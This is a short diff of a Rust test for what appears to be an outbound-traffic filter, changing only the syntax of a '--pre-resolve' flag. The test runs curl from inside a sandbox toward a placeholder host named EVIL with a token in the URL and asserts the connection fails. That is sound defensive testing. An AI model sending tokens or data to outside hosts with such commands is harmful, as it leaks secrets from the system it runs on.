@@ -65,7 +65,7 @@ fn t02_blocked_name() {
 fn t03_ip_literal() {
     let lab = Lab::new();
     let (before, after) = (lab.token("before"), lab.token("after"));
-    let mut inside = Inside::start(lab.egressd("run").flags("--pre-resolve off --allow ok.test"));
+    let mut inside = Inside::start(lab.egressd("run").flags("--pre-resolve=off --allow ok.test"));
     inside.ask(&format!("curl -sS -m3 http://{EVIL}/{before}")).exits(7);
     inside.ask(&format!("curl -sS -m3 http://{OK}/{before}")).exits(7);
     lab.expect_silence(OK);
